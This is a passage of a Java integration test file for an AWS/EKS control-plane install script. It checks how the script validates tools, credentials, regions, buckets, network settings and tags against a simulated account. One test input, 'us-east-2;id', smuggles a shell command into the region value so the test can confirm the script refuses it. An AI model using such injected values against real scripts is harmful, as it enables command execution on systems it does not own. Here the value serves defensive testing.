package io.eksphemeral.local;

import static io.eksphemeral.local.Account.CLUSTER_BUCKET;
import static io.eksphemeral.local.Account.SERVICE_BUCKET;
import static java.util.stream.Collectors.joining;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Installing and updating the control plane in an account that a program pretends to be. */
@Tag("account")
class InstallScriptIT {
  private static final String ROLES =
      """
      ecs.amazonaws.com
      eks.amazonaws.com
      eks-nodegroup.amazonaws.com
      autoscaling.amazonaws.com
      elasticloadbalancing.amazonaws.com
      spot.amazonaws.com
      """;

  private final Account account;
  private final Scripts scripts;

  InstallScriptIT(@TempDir Path scratch) throws IOException {
    account = new Account(scratch);
    account.api().answers(200, "[]");
    scripts = account.scripts();
  }

  @AfterEach
  void close() throws IOException {
    account.close();
  }

  // --- what is in the way ---

  @Test
  void allThatIsMissingIsSaidAtOnce() throws Exception {
    for (String tool : List.of("aws", "jq", "curl")) {
      Files.delete(account.tools().resolve(tool));
    }

    scripts
        .without("EKSPHEMERAL_SVC_BUCKET")
        .with("EKSPHEMERAL_CLUSTERMETA_BUCKET", "No_Bucket")
        .run("eksp-up.sh", "--max-clusters", "many", "--notify", "me")
        .exits(1)
        .prints("")
        .says(
            "nothing was changed",
            "  - aws is missing",
            "  - curl is missing",
            "  - jq is missing",
            "  - --max-clusters takes a whole number from 1 on, not 'many'",
            "  - --notify takes a mail address, not 'me'",
            "  - EKSPHEMERAL_SVC_BUCKET is not set",
            "  - EKSPHEMERAL_CLUSTERMETA_BUCKET is not a valid bucket name: 'No_Bucket'");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"aws-cli/2.12.9 Python/3.11", "aws-cli/1.28.99 x", "aws-cli/1.18.69", "?"})
  void anOldAwsCliIsNotUsed(String version) throws Exception {
    account.on("--version", "echo '" + version + "'");

    refused("2.13 or newer");

    assertThat(account.calls()).containsOnly("--version");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"aws-cli/2.13.0 x", "aws-cli/3.0.1", "aws-cli/1.29.0 x", "aws-cli/1.45.11"})
  void aNewerOneIs(String version) throws Exception {
    account.on("--version", "echo '" + version + "'");
    scripts.with("AWS_REGION", "nowhere");

    refused("'nowhere' is not a region").doesNotSay("too old");
  }

  @Test
  void withoutAJdkNothingCanBeBuilt() throws Exception {
    Path places = account.root().resolve("lib/build.sh");
    Files.writeString(
        places, Files.readString(places).replaceAll("/usr/lib(exec)?/|/Library/", "/nowhere/"));
    scripts.without("JAVA_HOME");

    refused("  - a JDK of version 25 or newer is missing", "or set JAVA_HOME to one");
  }

  @Test
  void anOldCurlCannotSign() throws Exception {
    account.curlDoes("[[ $* != '-q --version' ]] || { echo 'curl 7.74.0 (x86_64)'; exit; }");

    refused("curl 7.74.0 cannot sign requests", "curl 7.75 or newer");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "Unable to locate credentials. You can configure credentials by running \"aws login\". | aws configure",
        "The config profile (nope) could not be found | aws configure list-profiles",
        "Error loading SSO Token: Token for x does not exist | aws sso login",
        "The SSO session associated with this profile has expired. | aws sso login",
        "Could not connect to the endpoint URL: \"https://sts.x/\" | is there a network"
      })
  void withoutCredentialsItSaysHowToGetThem(String why, String advice) throws Exception {
    account.fails("sts get-caller-identity*", why);

    refused("the caller's identity cannot be looked up: " + why, advice);
  }

  @ParameterizedTest
  @CsvSource({
    "ExpiredToken, The security token included in the request is expired, aws sso login",
    "InvalidClientTokenId, The security token included in the request is invalid., aws configure",
    "SignatureDoesNotMatch, it does not, aws configure"
  })
  void credentialsThatDoNotCountAreSaid(String code, String why, String advice) throws Exception {
    account.refuses("sts get-caller-identity*", code, why);

    refused("the caller's identity cannot be looked up: " + why, advice);
  }

  @Test
  void withoutARegionAndCredentialsBothAreSaid() throws Exception {
    scripts.without("AWS_REGION");
    account.refuses("sts get-caller-identity*", "ExpiredToken", "it has expired");

    refused("no AWS region is set", "export AWS_REGION=us-east-2", "it has expired");
  }

  @Test
  void theRegionOfTheProfileCounts() throws Exception {
    scripts.without("AWS_REGION");
    account.on("configure get region", "echo eu-west-1");
    account.on("ec2 describe-vpcs*", "echo $AWS_REGION $AWS_DEFAULT_REGION >&2; exit 1");

    refused("the VPCs cannot be listed: eu-west-1 eu-west-1");
  }

  @ParameterizedTest
  @ValueSource(strings = {"us east 2", "useast2", "us-east-2 --debug", "-x", "us-east-2;id"})
  void whatIsNoRegionIsSaid(String region) throws Exception {
    scripts.with("AWS_REGION", region);

    refused("'" + region + "' is not a region");
  }

  @Test
  void thePartitionIsThatOfWhoInstalls() throws Exception {
    account.answers(
        "sts get-caller-identity*",
        "{\"Account\": \"123456789012\", \"Arn\": \"arn:aws-us-gov:iam::123456789012:user/alice\"}");
    account.api().forgets(Account.KEY);

    scripts
        .with("AWS_REGION", "us-gov-west-1")
        .run("eksp-up.sh")
        .exits(1)
        .says(
            "execute-api:Invoke", "arn:aws-us-gov:execute-api:us-gov-west-1:123456789012:abc123/*");

    for (String bucket : List.of(SERVICE_BUCKET, CLUSTER_BUCKET)) {
      assertThat(account.file("buckets/" + bucket + "/get-bucket-policy"))
          .content()
          .contains("arn:aws-us-gov:s3:::" + bucket + "/*")
          .doesNotContain("arn:aws:");
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"eusc-de-east-1", "us-east-9", "east-2", "us-east"})
  void aRegionThatEksctlDoesNotKnowIsRefused(String region) throws Exception {
    scripts.with("AWS_REGION", region);

    String why =
        region.matches("(eusc|us).*[0-9]") ? "eksctl 0.230.0, which creates" : "is not a region";
    refused(why, region, "export AWS_REGION=us-east-2");
  }

  @Test
  void aRegionWithoutEksIsSaid() throws Exception {
    account.fails("eks *", "Could not connect to the endpoint URL: \"https://eks.x/\"");

    refused("region us-east-2 has no EKS, or cannot be reached", "export AWS_REGION=");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "ab",
        "Eks",
        "eks_svc",
        "-eks",
        "eks-",
        "e..ks",
        "192.168.1.1",
        "xn--eks",
        "eks-s3alias",
        "s3://x"
      })
  void anIllegalNameOfABucketIsSaid(String name) throws Exception {
    scripts.with("EKSPHEMERAL_SVC_BUCKET", name);

    refused("EKSPHEMERAL_SVC_BUCKET is not a valid bucket name: '" + name + "'");
    assertThat(account.calls()).noneMatch(call -> call.contains("bucket " + name));
  }

  @Test
  void oneBucketIsNotTwo() throws Exception {
    scripts.with("EKSPHEMERAL_SVC_BUCKET", CLUSTER_BUCKET);

    refused("two buckets are needed");
  }

  @Test
  void bucketsThatAreNotSetAreSaidWithAProposal() throws Exception {
    scripts.without("EKSPHEMERAL_SVC_BUCKET").without("EKSPHEMERAL_CLUSTERMETA_BUCKET");

    refused(
        "EKSPHEMERAL_SVC_BUCKET is not set",
        "export EKSPHEMERAL_SVC_BUCKET=eks-svc-123456789012",
        "EKSPHEMERAL_CLUSTERMETA_BUCKET is not set");
  }

  @Test
  void aBucketOfSomebodyElseIsNotUsed() throws Exception {
    account.refuses("s3api head-bucket --bucket " + SERVICE_BUCKET + "*", "403", "Forbidden");

    refused(
        "the bucket "
            + SERVICE_BUCKET
            + " belongs to another account, or you have no access to it");
    assertThat(account.calls())
        .contains(
            "s3api head-bucket --bucket %s --expected-bucket-owner 123456789012 --output json"
                .formatted(SERVICE_BUCKET));
  }

  @Test
  void aBucketInAnotherRegionIsNotUsed() throws Exception {
    account.object(SERVICE_BUCKET, "x", "").object(CLUSTER_BUCKET, "x", "");
    account.answers("s3api get-bucket-location*", "{\"LocationConstraint\": \"EU\"}");
    account.refuses("s3api head-bucket --bucket " + CLUSTER_BUCKET + "*", "301", "Moved");

    refused(
        "the bucket " + SERVICE_BUCKET + " is in region eu-west-1",
        "the bucket " + CLUSTER_BUCKET + " is in another region");
  }

  /** A policy, or an SCP, that wants a header about encryption: it is asked with what we send. */
  @ParameterizedTest
  @CsvSource({
    "put, " + SERVICE_BUCKET + ", s3:PutObject, EKSPHEMERAL_SVC_BUCKET",
    "put, " + CLUSTER_BUCKET + ", s3:PutObject, EKSPHEMERAL_CLUSTERMETA_BUCKET",
    "delete, " + CLUSTER_BUCKET + ", s3:DeleteObject, EKSPHEMERAL_CLUSTERMETA_BUCKET"
  })
  void aBucketThatRefusesWhatWeWriteIsSaidBeforeAnythingIsChanged(
      String call, String bucket, String action, String variable) throws Exception {
    account
        .stack("UPDATE_COMPLETE")
        .object(CLUSTER_BUCKET, "x", "")
        .object(SERVICE_BUCKET, "x", "");
    account.refuses("s3api " + call + "-object --bucket " + bucket + " *", "AccessDenied", "no");

    refused(
        "the bucket %s denies %s, which EKSphemeral needs: no".formatted(bucket, action),
        "no header about encryption",
        "aws s3api get-bucket-policy --bucket " + bucket,
        "or choose another bucket for " + variable);

    assertThat(account.calls())
        .filteredOn(asked -> asked.startsWith("s3api put-object"))
        .isNotEmpty()
        .noneMatch(asked -> asked.contains("--server-side-encryption"));
  }

  @Test
  void aBucketThatIsMadeAndRefusesWritesIsSaid() throws Exception {
    account.refuses("s3api put-object*", "AccessDenied", "with an explicit deny in an SCP");

    scripts
        .run("eksp-up.sh")
        .exits(1)
        .says(SERVICE_BUCKET + " denies s3:PutObject", "explicit deny in an SCP", "SCP, RCP");
    assertThat(account.calls()).noneMatch(call -> call.startsWith("cloudformation deploy"));
  }

  @Test
  void whatIsWrittenToTryABucketIsRemovedWithItsVersions() throws Exception {
    scripts.run("eksp-up.sh").exits(0);
    scripts.run("eksp-up.sh").exits(0).doesNotSay("test object");

    assertThat(account.calls())
        .filteredOn(call -> call.startsWith("s3api put-object") && call.contains("/preflight-"))
        .hasSize(4);
    assertThat(account.testObjects()).isEmpty();
  }

  @Test
  void aVersionThatCannotBeRemovedIsNoFailure() throws Exception {
    account.refuses("s3api delete-object*--version-id v1*", "AccessDenied", "with MFA only");

    scripts.run("eksp-up.sh").exits(0).says("a version of the test object task", "with MFA only");
  }

  @Test
  void aBucketInTheFirstRegionHasNoLocation() throws Exception {
    account
        .object(SERVICE_BUCKET, "x", "")
        .answers("s3api get-bucket-location*", "{\"LocationConstraint\": null}");

    scripts.with("AWS_REGION", "us-east-1").run("eksp-up.sh").exits(0);

    assertThat(account.calls())
        .contains("s3api create-bucket --bucket " + CLUSTER_BUCKET + " --output json");
  }

  @Test
  void withoutADefaultVpcItSaysHowToHaveOne() throws Exception {
    account.write("vpcs.json", "{\"Vpcs\": []}");

    refused("no default VPC", "aws ec2 create-default-vpc --region us-east-2", "--subnets");
  }

  @Test
  void aSecurityGroupOfAnotherVpcIsRefused() throws Exception {
    Scripts.Outcome outcome =
        scripts.run(
            "eksp-up.sh", "--subnets", "subnet-a1,subnet-b1", "--security-group", "sg-22222222");

    outcome
        .exits(1)
        .says(
            "sg-22222222 belongs to another VPC (vpc-2) than the subnets subnet-a1,subnet-b1 (vpc-1)");
    assertThat(account.changes()).isEmpty();
  }

  @ParameterizedTest
  @CsvSource({
    "--subnets, subnet-99, the subnets subnet-99 cannot be used",
    "--security-group, sg-99, the security group sg-99 cannot be used",
    "--subnets, 'subnet-a1,subnet-a2', belong to several VPCs: vpc-1 vpc-2",
    "--subnets, 'subnet-a1, subnet-b1', --subnets takes at most 16 subnet ids",
    "--security-group, default, --security-group takes the id of one",
    "--instance-types, large, --instance-types takes at most 20 EC2",
    "--max-minutes, 0, --max-minutes takes a whole number",
    "--allow-types, 't3.*, t4g.*', --allow-types takes at most 50 EC2",
    "--allow-types, T3.large, --allow-types takes at most 50 EC2",
    "--max-disk, 19, --max-disk takes a number of GiB from 20",
    "--max-disk, 50G, --max-disk takes a number of GiB from 20",
    "--owner-domains, you@corp.io, --owner-domains takes mail domains",
    "--owner-domains, 'corp.io,', --owner-domains takes mail domains",
    "--notify, me@localhost, --notify takes a mail address",
    "--notify, me@example.com, addresses under reserved domains cannot send mail",
    "--notify, 'a@b.io,c@d.io', --notify takes a mail address"
  })
  void whatCannotBeUsedIsSaid(String option, String value, String words) throws Exception {
    scripts.run("eksp-up.sh", option, value).exits(1).says(words);

    assertThat(account.changes()).isEmpty();
  }

  @Test
  void optionsOfTheOtherEditionAreWrongUse() throws Exception {
    scripts.run("eksp-up.sh", "--speed", "2").exits(2).says("--speed", "only with --local");
    scripts.run("eksp-up.sh", "--spot", "--on-demand").exits(2).says("cannot be combined");
    scripts.run("eksp-up.sh", "--local", "--notify", "").exits(2).says("no option but", "--speed");
    assertThat(account.calls()).isEmpty();
  }

  @Test
  void itDoesNotForgetItsClusters() throws Exception {
    account
        .stack("UPDATE_COMPLETE")
        .object(CLUSTER_BUCKET, "x", "")
        .object(SERVICE_BUCKET, "x", "");
    scripts.with("EKSPHEMERAL_CLUSTERMETA_BUCKET", "another-one");

    refused(
        "does not have its clusters", "export EKSPHEMERAL_CLUSTERMETA_BUCKET=" + CLUSTER_BUCKET);
  }

  @ParameterizedTest
  @CsvSource({"DELETE_FAILED, eksp-down.sh", "UPDATE_ROLLBACK_FAILED, continue-update-rollback"})
  void aStackThatCannotBeUpdatedIsSaid(String status, String advice) throws Exception {
    account.stack(status);

    refused(status, advice);
  }

  @ParameterizedTest
  @ValueSource(strings = {"UPDATE_ROLLBACK_COMPLETE", "UPDATE_COMPLETE", "CREATE_COMPLETE"})
  void whateverBecameOfAnUpdateWhatIsInstalledStays(String status) throws Exception {
    account.stack(status, "MaxClusters=7").object(CLUSTER_BUCKET, "x", "");

    scripts.run("eksp-up.sh").exits(0).doesNotSay("removing");

    assertThat(account.parameter("MaxClusters")).isEqualTo("7");
    assertThat(account.calls()).noneMatch(call -> call.contains("delete-stack"));
  }

  // --- where tasks run ---

  @ParameterizedTest
  @CsvSource({
    "sg-1 vpc-1",
    "sg-1 vpc-1 tcp 80 80 0.0.0.0/0",
    "sg-1 vpc-1 udp 443 443 0.0.0.0/0",
    "sg-1 vpc-1 tcp 444 65535 0.0.0.0/0"
  })
  void aSecurityGroupWithNoWayOutIsRefused(String group) throws Exception {
    account.groups(group);

    refused(
        "the security group sg-1 allows no egress to port 443",
        "aws ec2 authorize-security-group-egress --region us-east-2 --group-id sg-1 --protocol tcp");
    Scripts.Outcome chosen = scripts.run("eksp-up.sh", "--security-group", "sg-1").exits(1);
    chosen.says("the security group sg-1 allows no egress to port 443");
  }

  @Test
  void theSecurityGroupThatLetsTheMostOutIsPreferred() throws Exception {
    account.groups(
        "sg-1 vpc-1", "sg-2 vpc-1 tcp 443 443 10.0.0.0/8", "sg-3 vpc-1 tcp 0 65535 0.0.0.0/0");

    scripts.run("eksp-up.sh").exits(0).doesNotSay("443");

    assertThat(account.parameter("SecurityGroup")).isEqualTo("sg-3");
  }

  @Test
  void aSecurityGroupWithANarrowWayOutIsWarnedOf() throws Exception {
    account.groups("sg-1 vpc-1", "sg-2 vpc-1 tcp 443 443 10.0.0.0/8");

    scripts.run("eksp-up.sh").exits(0).says("sg-2 allows egress to port 443 of some addresses");

    assertThat(account.parameter("SecurityGroup")).isEqualTo("sg-2");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"use1-az3", "usw1-az2", "apne1-az3", "cnn1-az4", "use2-lax1-az1", "use2-wl1-atl1"})
  void subnetsInZonesWithoutFargateAreLeftOut(String zone) throws Exception {
    Path subnets = account.file("subnets.json");
    Files.writeString(
        subnets, Files.readString(subnets).replaceFirst("use2-az1", zone)); // of subnet-a1

    scripts.run("eksp-up.sh").exits(0);
    assertThat(account.parameter("Subnets")).isEqualTo("subnet-b1");

    scripts
        .run("eksp-up.sh", "--subnets", "subnet-b1,subnet-a1")
        .exits(1)
        .says("the zones of subnet-a1 (" + zone + ") have no Fargate", "--subnets");
  }

  @Test
  void installedSubnetsWithoutFargateAreGivenUp() throws Exception {
    scripts.run("eksp-up.sh").exits(0);
    Path subnets = account.file("subnets.json");
    Files.writeString(subnets, Files.readString(subnets).replaceFirst("use2-az1", "use1-az3"));

    scripts.run("eksp-up.sh").exits(0).says("no longer run in subnet-a1 (use1-az3)");
    assertThat(account.parameter("Subnets")).isEqualTo("subnet-b1");

    Files.writeString(subnets, Files.readString(subnets).replace("use2-az", "usw1-az2\",\"x\":\""));
    scripts.run("eksp-up.sh").exits(1).says("the zones of subnet-b1 (usw1-az2) have no Fargate");
  }

  @ParameterizedTest
  @ValueSource(strings = {"--max-clusters-per-caller", "--max-clusters-per-asker"})
  void theLimitPerCallerIsSetByItsFormerOptionToo(String option) throws Exception {
    scripts.run("eksp-up.sh", option, "3").exits(0);

    assertThat(account.parameter("MaxClustersPerAsker")).isEqualTo("3");
  }

  // --- what nodes may be ---

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      nullValues = "-",
      value = {
        // what the region lacks                      | what nodes are
        "t3a.medium                                   | t3.medium",
        "t3a.medium use2-az1                          | t3.medium",
        "t3a.medium use2-az1 use2-lax1-az1            | t3.medium",
        "t3.medium use2-az1 use1-az3                  | t3a.medium",
        "t3a.medium use2-az1 use2-az2                 | t3.medium,t3a.medium"
      })
  void aDefaultTypeThatTheRegionDoesNotOfferIsLeftOut(String offered, String types)
      throws Exception {
    account.write("offerings", offered.strip() + "\n");

    Scripts.Outcome outcome = scripts.run("eksp-up.sh").exits(0);

    assertThat(account.parameter("InstanceTypes")).isEqualTo(types);
    if (types.contains(",")) {
      outcome.doesNotSay("nodes will be");
    } else {
      outcome.says("nodes will be " + types + " only", "--instance-types");
    }
    // Once it is installed like that, nothing changes, and nothing need be said again.
    scripts.run("eksp-up.sh").exits(0).says("is up to date").doesNotSay("nodes will be");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "m9.large                    | m9.large | m9.large: not offered",
        "m9.large use2-az1           | t3.medium,m9.large | m9.large: use2-az1",
        "m9.large use1-az3 use2-az1  | m9.large | m9.large: use2-az1"
      })
  void aChosenTypeThatTheRegionDoesNotOfferIsRefused(String offered, String chosen, String words)
      throws Exception {
    account.write("offerings", offered.strip() + "\n");

    scripts
        .run("eksp-up.sh", "--instance-types", chosen)
        .exits(1)
        .says(
            "needs two availability zones that offer all of its instance types (" + chosen, words);
    assertThat(account.changes()).isEmpty();
  }

  /** Each is offered in two zones, and no zone but one has both. */
  @Test
  void allTypesHaveToBeInTheSameTwoZones() throws Exception {
    account.write("offerings", "a1.x use2-az1 use2-az2\nb1.x use2-az2 use2-az3\n");

    scripts.run("eksp-up.sh", "--instance-types", "a1.x").exits(0);
    scripts
        .run("eksp-up.sh", "--instance-types", "a1.x,b1.x")
        .exits(1)
        .says("a1.x: use2-az1, use2-az2", "b1.x: use2-az2, use2-az3");
  }

  @Test
  void aRegionWithNoneOfTheDefaultTypesIsRefused() throws Exception {
    account.write("offerings", "t3.medium\nt3a.medium\n");

    refused("region us-east-2 has fewer", "t3.medium: not offered", "--instance-types A,B");
  }

  @Test
  void whoMayNotAskForOfferingsIsWarned() throws Exception {
    account.refuses("ec2 describe-instance-type-offerings*", "UnauthorizedOperation", "not you");

    scripts
        .run("eksp-up.sh")
        .exits(0)
        .says("the zones that offer t3.medium,t3a.medium cannot be listed", "not you");
    assertThat(account.parameter("InstanceTypes")).isEqualTo("t3.medium,t3a.medium");
  }

  // --- what it does ---

  @Test
  void itInstalls() throws Exception {
    scripts
        .run("eksp-up.sh")
        .exits(0)
        .prints("")
        .says(
            "created the bucket " + SERVICE_BUCKET,
            "the bucket %s is now private, encrypted, versioned, with expiry rules, TLS-only"
                .formatted(CLUSTER_BUCKET),
            "created the service-linked roles of ecs, eks, eks-nodegroup, autoscaling, elasticloadbalancing, spot",
            "uploaded the task scripts",
            "the control plane is up at %s (region us-east-2, account 123456789012)"
                .formatted(account.api().endpoint()),
            "no mails are sent:",
            "create a cluster: ",
            "/eksp-create.sh\n");

    assertThat(account.calls())
        .contains(
            "s3api create-bucket --bucket %s --create-bucket-configuration LocationConstraint=us-east-2 --output json"
                .formatted(SERVICE_BUCKET));
    assertThat(account.api().paths()).containsExactly("GET /status");
    assertThat(account.api().asked().getFirst().key()).isEqualTo(Account.KEY);
    assertThat(account.parameter("Subnets")).isEqualTo("subnet-a1,subnet-b1");
    assertThat(account.parameter("SecurityGroup")).isEqualTo("sg-11111111");
    assertThat(account.parameter("ServiceBucket")).isEqualTo(SERVICE_BUCKET);
    assertThat(account.parameter("ClusterBucket")).isEqualTo(CLUSTER_BUCKET);
    assertThat(account.parameter("CodeVersion")).matches("[0-9a-f]{64}");
    assertThat(account.parameter("AwsCliImage")).isEqualTo("example.org/aws-cli:1");
    assertThat(account.parameter("EksctlImage")).isEqualTo("example.org/eksctl:1");
    assertThat(account.parameter("NotifyAddress")).isEmpty();
    assertThat(account.parameter("MaxMinutes")).isEqualTo("1440");
    assertThat(account.parameter("Spot")).isEqualTo("true");

    String taskScripts = account.parameter("TaskScripts");
    assertThat(taskScripts).matches("task/[0-9a-f]{64}");
    Path uploaded = account.file("buckets/" + SERVICE_BUCKET + "/objects/" + taskScripts);
    assertThat(names(uploaded)).isEqualTo(names(account.root().resolve("svc/task")));
    assertThat(uploaded.resolve("prepare.sh"))
        .hasSameTextualContentAs(account.root().resolve("svc/task/prepare.sh"));

    assertThat(account.file("buckets/" + CLUSTER_BUCKET + "/objects/config/versions.json"))
        .hasContent("{\"offered\":[\"1.35\"],\"extended\":[],\"preferred\":\"1.35\"}");
    assertThat(scripts.home().resolve("endpoints/123456789012-us-east-2"))
        .hasContent(account.api().endpoint());
    String deploy = theCall("cloudformation deploy");
    assertThat(deploy)
        .contains(
            "--stack-name eksp",
            "--capabilities CAPABILITY_IAM CAPABILITY_AUTO_EXPAND",
            "--no-fail-on-empty-changeset");
  }

  @Test
  void theSecondTimeNothingIsChanged() throws Exception {
    scripts.run("eksp-up.sh").exits(0);
    account.forgetCalls();

    scripts
        .run("eksp-up.sh")
        .exits(0)
        .says("the control plane is up to date at ")
        .doesNotSay("now");

    assertThat(account.changes())
        .hasSize(1)
        .allMatch(call -> call.startsWith("cloudformation deploy"));
  }

  @Test
  void whatIsNotGivenStaysAsItWasInstalled() throws Exception {
    scripts
        .run(
            "eksp-up.sh",
            "--notify",
            "me@corp.io",
            "--max-workers",
            "3",
            "--on-demand",
            "--subnets",
            "subnet-a2",
            "--security-group",
            "sg-22222222")
        .exits(0);
    String before = account.parameter("CodeVersion");
    scripts.without("EKSPHEMERAL_SVC_BUCKET").without("EKSPHEMERAL_CLUSTERMETA_BUCKET");
    Path template = account.root().resolve("template.yaml");
    Files.writeString(
        template,
        Files.readString(template)
            .replace("eksctl:1", "eksctl:2")
            .replace("Default: 1440", "Default: 60"));

    scripts.run("eksp-up.sh", "--max-clusters=7", "--spot").exits(0);

    assertThat(account.parameter("NotifyAddress")).isEqualTo("me@corp.io");
    assertThat(account.parameter("MaxWorkers")).isEqualTo("3");
    assertThat(account.parameter("MaxClusters")).isEqualTo("7");
    assertThat(account.parameter("Spot")).isEqualTo("true");
    assertThat(account.parameter("Subnets")).isEqualTo("subnet-a2");
    assertThat(account.parameter("SecurityGroup")).isEqualTo("sg-22222222");
    assertThat(account.parameter("ServiceBucket")).isEqualTo(SERVICE_BUCKET);
    assertThat(account.parameter("EksctlImage"))
        .as("images are pinned by the template, and go with it")
        .isEqualTo("example.org/eksctl:2");
    assertThat(account.parameter("MaxMinutes")).isEqualTo("1440");
    assertThat(account.parameter("CodeVersion")).isNotEqualTo(before);

    scripts.run("eksp-up.sh", "--notify", "").exits(0);
    assertThat(account.parameter("NotifyAddress")).isEmpty();
  }

  @Test
  void whoseAddressesMayBeOwnersIsGivenAndKept() throws Exception {
    scripts.run("eksp-up.sh", "--owner-domains", "corp.io,sub.corp.com").exits(0);
    scripts.run("eksp-up.sh").exits(0).says("is up to date at");
    assertThat(account.parameter("OwnerDomains")).isEqualTo("corp.io,sub.corp.com");

    scripts.run("eksp-up.sh", "--owner-domains", "").exits(0);
    assertThat(account.parameter("OwnerDomains")).isEmpty();
  }

  @Test
  void whatNodesMayBeIsGivenAndKept() throws Exception {
    scripts.run("eksp-up.sh", "--allow-types", "t3.*,m7g.large", "--max-disk", "200").exits(0);
    scripts.run("eksp-up.sh").exits(0).says("is up to date at");
    assertThat(account.parameter("AllowTypes")).isEqualTo("t3.*,m7g.large");
    assertThat(account.parameter("MaxDisk")).isEqualTo("200");

    scripts.run("eksp-up.sh", "--allow-types", "").exits(0);
    assertThat(account.parameter("AllowTypes")).isEmpty();
  }

  @Test
  void tagsAndBoundaryAreGivenAndKept() throws Exception {
    String boundary = "arn:aws:iam::123456789012:policy/team/boundary";
    scripts
        .run("eksp-up.sh", "--permissions-boundary", boundary, "--tags", "cost center=4=2,team=")
        .exits(0);
    assertThat(account.parameter("PermissionsBoundary")).isEqualTo(boundary);
    assertThat(account.parameter("Tags")).isEqualTo("cost center=4=2,team=");
    assertThat(stackTags()).isEqualTo(Map.of("cost center", "4=2", "team", ""));

    scripts.run("eksp-up.sh").exits(0).says("is up to date at");
    assertThat(account.parameter("PermissionsBoundary")).isEqualTo(boundary);
    assertThat(stackTags()).isEqualTo(Map.of("cost center", "4=2", "team", ""));

    // A tag that was set by other means is kept.
    Path stack = account.file("stack.json");
    Files.writeString(
        stack,
        Files.readString(stack)
            .replaceFirst("\"Tags\": \\[", "\"Tags\": [{\"Key\": \"theirs\", \"Value\": \"x\"},"));
    scripts.run("eksp-up.sh", "--tags", "team=b", "--permissions-boundary", "").exits(0);
    assertThat(account.parameter("PermissionsBoundary")).isEmpty();
    assertThat(stackTags()).isEqualTo(Map.of("theirs", "x", "team", "b"));
    scripts.run("eksp-up.sh", "--tags", "").exits(0);
    assertThat(stackTags()).isEqualTo(Map.of("theirs", "x"));
  }

  private Map<String, String> stackTags() throws IOException {
    Map<String, String> tags = new TreeMap<>();
    account
        .stack()
        .path("Tags")
        .forEach(tag -> tags.put(tag.path("Key").asText(), tag.path("Value").asText()));
    return tags;
  }

  @ParameterizedTest
  @CsvSource({
    "team, '\"team\" is not KEY=VALUE'",
    "'a=1,', '\"\" is not KEY=VALUE'",
    "=1, 'the key \"\" must have 1 to 128'",
    "a;b=1, 'the key \"a;b\" must have'",
    "a=b;c, 'the value of \"a\" must have at most 256'",
    "aws:x=1, 'the key \"aws:x\" is reserved'",
    "AWS:x=1, 'the key \"AWS:x\" is reserved'",
    "eksphemeral:id=1, 'the key \"eksphemeral:id\" is reserved'",
    "eks:cluster-name=1, 'the key \"eks:cluster-name\" is reserved'",
    "kubernetes.io/cluster/x=1, is reserved",
    "alpha.eksctl.io/cluster-name=1, is reserved",
    "node.k8s.amazonaws.com/createdAt=1, is reserved",
    "karpenter.sh/nodepool=1, is reserved",
    "elbv2.k8s.aws/cluster=1, is reserved",
    "ebs.csi.aws.com/cluster=1, is reserved",
    "GuardDutyManaged=1, is reserved",
    "'Team=1,team=2', 'the key \"Team\" is there 2 times'"
  })
  void tagsThatAwsOrWeCannotTakeAreRefused(String tags, String words) throws Exception {
    scripts.run("eksp-up.sh", "--tags", tags).exits(1).says("nothing was changed", words);
    assertThat(account.changes()).isEmpty();
  }

  @Test
  void theLimitsOfTagsAreExact() throws Exception {
    String key = "k".repeat(128);
    String value = "v".repeat(256);
    scripts.run("eksp-up.sh", "--tags", key + "=" + value).exits(0);
    scripts.run("eksp-up.sh", "--tags", "k" + key + "=1").exits(1).says("must have 1 to 128");
    scripts.run("eksp-up.sh", "--tags", "k=v" + value).exits(1).says("must have at most 256");
    String many = IntStream.rangeClosed(1, 35).mapToObj(i -> "k" + i + "=").collect(joining(","));
    scripts.run("eksp-up.sh", "--tags", many).exits(0);
    scripts.run("eksp-up.sh", "--tags", many + ",k36=").exits(1).says("at most 35 tags, not 36");
  }

  @ParameterizedTest
  @CsvSource({
    "boundary, takes the ARN of a policy",
    "arn:aws:iam::123456789012:role/x, takes the ARN of a policy",
    "arn:aws:iam::123456789012:policy/other, cannot be used: Policy arn"
  })
  void aBoundaryThatIsNoneIsRefused(String boundary, String words) throws Exception {
    scripts.run("eksp-up.sh", "--permissions-boundary", boundary).exits(1).says(words);
    assertThat(account.changes()).isEmpty();
  }

  @Test
  void theRealTemplateGetsAllThatItWants() throws Exception {
    String real = Files.readString(Scripts.checkout().resolve("template.yaml"));
    Files.writeString(account.root().resolve("template.yaml"), real);

    scripts.run("eksp-up.sh").exits(0);

    String section = real.substring(real.indexOf("\nParameters:"), real.indexOf("\nMappings:"));
    List<String> names =
        Pattern.compile("(?m)^  ([A-Za-z]+):")
            .matcher(section)
            .results()
            .map(m -> m.group(1))
            .toList();
    assertThat(names).contains("ServiceBucket", "Spot");
    for (String name : names) {
      assertThat(account.parameter(name)).as(name).doesNotContain("\"", "'", "#", "null");
    }
    assertThat(account.parameter("MaxClusters")).isEqualTo("10");
    assertThat(account.parameter("EksctlImage")).matches("public\\.ecr\\.aws/\\S+");
  }

  @Test
  void otherCodeIsAnotherVersion() throws Exception {
    scripts.run("eksp-up.sh").exits(0);
    String before = account.parameter("CodeVersion");
    Files.writeString(account.root().resolve("svc/target/eksphemeral-lambda.jar"), "other code");

    scripts.run("eksp-up.sh").exits(0).says("the control plane is up at ");

    assertThat(account.parameter("CodeVersion")).isNotEqualTo(before);
  }

  @Test
  void otherTaskScriptsComeBesideThoseThatMayStillRun() throws Exception {
    scripts.run("eksp-up.sh").exits(0);
    String before = account.parameter("TaskScripts");
    Files.writeString(account.root().resolve("svc/task/prepare.sh"), "echo changed\n");

